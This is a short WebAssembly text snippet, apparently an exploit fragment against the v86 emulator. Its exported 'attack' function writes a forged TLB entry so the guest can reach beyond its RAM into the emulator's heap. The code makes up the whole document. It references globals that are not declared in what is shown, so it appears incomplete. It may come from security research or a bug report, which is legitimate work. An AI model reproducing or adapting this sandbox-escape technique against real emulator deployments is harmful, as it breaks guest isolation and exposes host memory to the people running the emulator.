;; A TLB entry that leads the guest beyond its RAM, into v86's heap.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (i32.add (global.get $TLB) (i32.shl (i32.const 0x400) (i32.const 2)))
    (i32.or (i32.xor (i32.add (i32.load (global.get $MEMORY-BASE)) (i32.const 0x40000000)) (i32.const 0x400000)) (i32.const 1))))
